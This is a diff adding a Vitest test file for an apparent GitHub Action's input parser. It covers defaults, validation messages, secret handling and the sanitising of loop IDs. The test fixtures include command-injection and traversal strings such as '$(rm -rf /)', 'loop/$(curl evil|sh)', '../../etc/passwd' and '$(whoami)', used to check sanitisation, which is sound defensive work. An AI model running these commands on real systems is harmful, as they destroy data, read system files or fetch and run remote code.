@@ -1,0 +1,254 @@
+import { describe, expect, it } from 'vitest'
+import {
+  ActionInputError,
+  deriveLoopId,
+  type EventContext,
+  parseActionInputs,
+  parseSecretLines,
+  sanitiseLoopId,
+  secretValues,
+  simpleModeOptions,
+} from '../../../src/config/action-inputs.js'
+import { ConfigError } from '../../../src/config/errors.js'
+
+const noEvent: EventContext = { eventName: 'workflow_dispatch', payload: {}, runId: 777 }
+
+function inputs(values: Record<string, string>) {
+  const all: Record<string, string> = { 'github-token': 'tok-1234', ...values }
+  return (name: string) => all[name] ?? ''
+}
+
+function problemsOf(values: Record<string, string>, event = noEvent): string[] {
+  try {
+    parseActionInputs(inputs(values), event)
+  } catch (error) {
+    expect(error).toBeInstanceOf(ActionInputError)
+    expect(error).toBeInstanceOf(ConfigError)
+    return [...(error as ActionInputError).problems]
+  }
+  return []
+}
+
+describe('parseActionInputs', () => {
+  it('applies the documented defaults', () => {
+    const settings = parseActionInputs(inputs({}), noEvent)
+    expect(settings).toMatchObject({
+      config: '.github/loop.yml',
+      configIsDefault: true,
+      loopId: 'run-777',
+      loopIdSource: 'run',
+      store: 'auto',
+      stateBranch: 'loop-state',
+      command: 'run',
+      dispatch: true,
+      allowUntrusted: false,
+      workingDirectory: '.',
+      githubToken: 'tok-1234',
+      pushToken: 'tok-1234',
+      verify: [],
+      secrets: {},
+    })
+    expect(settings.maxIterations).toBeUndefined()
+    expect(settings.iteration).toBeUndefined()
+    expect(settings.work).toBeUndefined()
+  })
+
+  it('parses every input that is set', () => {
+    const settings = parseActionInputs(
+      inputs({
+        work: 'claude -p "$(cat prompt.md)"',
+        verify: 'npm run build\n\n# comment\n  npm test  \r\nnpx tsc --noEmit\n',
+        config: 'ci/loop.yml',
+        'loop-id': 'my loop/42',
+        'max-iterations': '40',
+        'cap-reason': 'large migration',
+        store: 'git',
+        'state-branch': 'loop/state',
+        'push-token': 'push-5678',
+        iteration: '3',
+        command: 'skip',
+        task: 'docs:api',
+        reason: 'covered by "another" task; $(rm -rf /)',
+        dispatch: 'false',
+        'budget-minutes': '90.5',
+        'allow-untrusted': 'TRUE',
+        secrets: 'API_KEY=abc=def\nFROM_ENV',
+        'working-directory': 'packages/app',
+      }),
+      noEvent,
+      { FROM_ENV: 'env-value' },
+    )
+    expect(settings).toMatchObject({
+      work: 'claude -p "$(cat prompt.md)"',
+      verify: ['npm run build', 'npm test', 'npx tsc --noEmit'],
+      config: 'ci/loop.yml',
+      configIsDefault: false,
+      loopId: 'my-loop-42',
+      loopIdSource: 'input',
+      maxIterations: 40,
+      capReason: 'large migration',
+      store: 'git',
+      stateBranch: 'loop/state',
+      pushToken: 'push-5678',
+      iteration: 3,
+      command: 'skip',
+      task: 'docs:api',
+      reason: 'covered by "another" task; $(rm -rf /)',
+      dispatch: false,
+      budgetMinutes: 90.5,
+      allowUntrusted: true,
+      secrets: { API_KEY: 'abc=def', FROM_ENV: 'env-value' },
+      missingSecrets: [],
+      workingDirectory: 'packages/app',
+    })
+    expect(secretValues(settings).sort()).toEqual(['abc=def', 'env-value', 'push-5678', 'tok-1234'])
+  })
+
+  const bad: Array<{ values: Record<string, string>; message: string }> = [
+    {
+      values: { 'max-iterations': 'abc' },
+      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got 'abc'.",
+    },
+    {
+      values: { 'max-iterations': '0' },
+      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '0'.",
+    },
+    {
+      values: { 'max-iterations': '1001' },
+      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '1001'.",
+    },
+    {
+      values: { 'max-iterations': '2.5' },
+      message: "Input 'max-iterations' must be a whole number from 1 to 1000; got '2.5'.",
+    },
+    { values: { 'max-iterations': '30' }, message: "set 'cap-reason'" },
+    { values: { store: 's3' }, message: "Input 'store' must be one of auto, cache, artifact, git; got 's3'." },
+    {
+      values: { command: 'merge' },
+      message: "Input 'command' must be one of run, resume, approve, abort, skip; got 'merge'.",
+    },
+    { values: { dispatch: 'yes' }, message: "Input 'dispatch' must be true or false; got 'yes'." },
+    { values: { 'allow-untrusted': '1' }, message: "Input 'allow-untrusted' must be true or false; got '1'." },
+    { values: { 'budget-minutes': '-5' }, message: "Input 'budget-minutes' must be a positive number of minutes" },
+    { values: { iteration: 'next' }, message: "Input 'iteration' must be a whole number" },
+    { values: { command: 'approve' }, message: "Input 'gate' is required when 'command' is 'approve'" },
+    { values: { command: 'approve', gate: 'Sec urity' }, message: "Input 'gate' must be a gate name" },
+    { values: { command: 'skip', reason: 'x' }, message: "Input 'task' is required when 'command' is 'skip'." },
+    { values: { command: 'skip', task: 'docs' }, message: "Input 'reason' is required when 'command' is 'skip'" },
+    { values: { task: 'a;b' }, message: "Input 'task' must be a task name" },
+    { values: { 'state-branch': 'a..b' }, message: "Input 'state-branch' must be a branch name" },
+    { values: { 'loop-id': '///' }, message: "Input 'loop-id' must contain letters or digits" },
+    { values: { 'github-token': '' }, message: "Input 'github-token' must be a token; got ''." },
+  ]
+  it.each(bad)('names the bad value: $message', ({ values, message }) => {
+    const problems = problemsOf(values)
+    expect(problems.some((problem) => problem.includes(message))).toBe(true)
+  })
+
+  it('reports every problem at once', () => {
+    expect(problemsOf({ 'max-iterations': 'x', store: 'y', dispatch: 'z' })).toHaveLength(3)
+  })
+
+  it('never quotes a secrets line back', () => {
+    const problems = problemsOf({ secrets: 'not a name=hunter2hunter2' })
+    expect(problems).toHaveLength(1)
+    expect(problems[0]).not.toContain('hunter2')
+    expect(problems[0]).toContain("Input 'secrets' line 1")
+  })
+
+  it('quotes long values shortened and on one line', () => {
+    const problems = problemsOf({ store: `${'x'.repeat(500)}\nnext` })
+    expect(problems[0]!.length).toBeLessThan(300)
+  })
+})
+
+describe('loop id', () => {
+  const cases: Array<{ name: string; event: EventContext; loopId: string; source: string }> = [
+    {
+      name: 'an issue',
+      event: { eventName: 'issues', payload: { issue: { number: 42 } }, runId: 1 },
+      loopId: 'issue-42',
+      source: 'issue',
+    },
+    {
+      name: 'a comment on a pull request',
+      event: { eventName: 'issue_comment', payload: { issue: { number: 7, pull_request: { url: 'x' } } }, runId: 1 },
+      loopId: 'pr-7',
+      source: 'pull-request',
+    },
+    {
+      name: 'a pull request',
+      event: {
+        eventName: 'pull_request',
+        payload: { pull_request: { number: 9, head: { ref: 'feature' } } },
+        runId: 1,
+      },
+      loopId: 'pr-9',
+      source: 'pull-request',
+    },
+    {
+      name: "a review on a loop's own pull request",
+      event: {
+        eventName: 'pull_request_review',
+        payload: { pull_request: { number: 57, head: { ref: 'loop/issue-42' } } },
+        runId: 1,
+      },
+      loopId: 'issue-42',
+      source: 'pull-request',
+    },
+    {
+      name: 'a branch name with shell metacharacters',
+      event: {
+        eventName: 'pull_request',
+        payload: { pull_request: { number: 5, head: { ref: 'loop/$(curl evil|sh);`id`' } } },
+        runId: 1,
+      },
+      loopId: 'curl-evil-sh-id',
+      source: 'pull-request',
+    },
+    {
+      name: 'a dispatch',
+      event: { eventName: 'workflow_dispatch', payload: {}, runId: 99 },
+      loopId: 'run-99',
+      source: 'run',
+    },
+  ]
+  it.each(cases)('is derived from $name', ({ event, loopId, source }) => {
+    expect(deriveLoopId(event)).toEqual({ loopId, source })
+    expect(parseActionInputs(inputs({}), event).loopId).toBe(loopId)
+  })
+
+  const sanitised = [
+    { raw: 'issue-42', expected: 'issue-42' },
+    { raw: '../../etc/passwd', expected: 'etc-passwd' },
+    { raw: '..', expected: '' },
+    { raw: 'a b\tc\nd', expected: 'a-b-c-d' },
+    { raw: '$(whoami)', expected: 'whoami' },
+    { raw: 'x'.repeat(150), expected: 'x'.repeat(100) },
+    { raw: 'ünïcödé', expected: 'n-c-d' },
+  ]
+  it.each(sanitised)('sanitises $raw', ({ raw, expected }) => {
+    const id = sanitiseLoopId(raw)
+    expect(id).toBe(expected)
+    expect(id).toMatch(/^([A-Za-z0-9][A-Za-z0-9._-]*)?$/)
+  })
+})
+
+describe('secrets and simple mode', () => {
+  it('lists names with no value in the environment', () => {
+    expect(parseSecretLines('A\nB=\n# note\nC', { A: 'x', C: '' })).toEqual({
+      secrets: { A: 'x', B: '' },
+      missing: ['C'],
+      problems: [],
+    })
+  })
+
+  it('gives simple-mode options only when work and verify are both set', () => {
+    expect(simpleModeOptions(parseActionInputs(inputs({ work: 'agent' }), noEvent))).toBeNull()
+    expect(
+      simpleModeOptions(
+        parseActionInputs(inputs({ work: 'agent', verify: 'npm test', 'max-iterations': '5' }), noEvent),
+      ),
+    ).toEqual({ work: 'agent', verify: ['npm test'], maxIterations: 5 })
+  })
+})
